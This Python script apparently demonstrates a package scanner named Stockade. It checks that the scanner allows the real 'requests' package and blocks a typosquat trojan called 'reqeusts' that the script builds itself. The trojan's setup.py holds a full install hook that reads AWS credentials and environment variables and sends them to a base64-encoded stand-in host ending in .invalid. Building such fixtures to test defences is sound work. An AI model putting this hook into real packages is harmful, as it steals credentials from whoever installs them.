#!/usr/bin/env python3
"""`make try`: a real package is allowed, and an inert trojan, built here and now, is blocked.

The trojan is ours and harmless: its host ends in .invalid (RFC 2606), so that nothing could ever receive what it
would send, and Stockade never runs it.
"""

from __future__ import annotations

import gzip
import io
import subprocess
import sys
import tarfile
from pathlib import Path

FOLDER = Path(__file__).parents[1] / ".try"
STOCKADE = Path(sys.executable).with_name("stockade")

SETUP = """\
import base64, json, os, urllib.request
from pathlib import Path
from setuptools import setup
from setuptools.command.install import install

WHERE = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LnJlcWV1c3RzLmludmFsaWQvaW4=").decode()


class Install(install):
    def run(self):
        try:
            found = {"aws": (Path.home() / ".aws" / "credentials").read_text(), "env": dict(os.environ)}
            urllib.request.urlopen(WHERE, data=json.dumps(found).encode(), timeout=3)
        except Exception:
            pass
        install.run(self)


setup(name="reqeusts", version="2.32.1", py_modules=["reqeusts"], cmdclass={"install": Install})
"""
PKG_INFO = "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.32.1\nSummary: Python HTTP for Humans.\n"


def trojan() -> Path:
    """An sdist that imitates `requests` by name and steals credentials when it is installed."""
    path = FOLDER / "reqeusts-2.32.1.tar.gz"
    with gzip.open(path, "wb") as packed, tarfile.open(fileobj=packed, mode="w") as tar:
        for name, text in (("setup.py", SETUP), ("PKG-INFO", PKG_INFO), ("reqeusts.py", "")):
            entry = tarfile.TarInfo(f"reqeusts-2.32.1/{name}")
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    return path


def run(*words: str) -> int:
    """One command, shown as a person would type it."""
    print(f"\n$ stockade {' '.join(words)}\n", flush=True)
    code = subprocess.run([STOCKADE, *words], check=False, cwd=FOLDER).returncode
    print(f"\n(exit code {code})", flush=True)
    return code


def main() -> int:
    """Both halves; the exit code says whether they came out as they must."""
    FOLDER.mkdir(exist_ok=True)  # away from this project's own environment
    print("1. A well-known package from the index that pip is set up with, with everything that it brings:")
    # Of a release of the last three days the one before is taken: a young one waits.
    allowed = run("check", "requests", "--resolve-older")
    print(
        "\n2. An inert trojan, built here: named to be mistaken for it, it takes credentials when it is installed:"
    )
    blocked = run("scan", trojan().name)
    fine = allowed == 0 and blocked == 10
    print(f"\n{'Both came out as they must.' if fine else 'That is not what should have come out.'}")
    return 0 if fine else 1


if __name__ == "__main__":
    sys.exit(main())
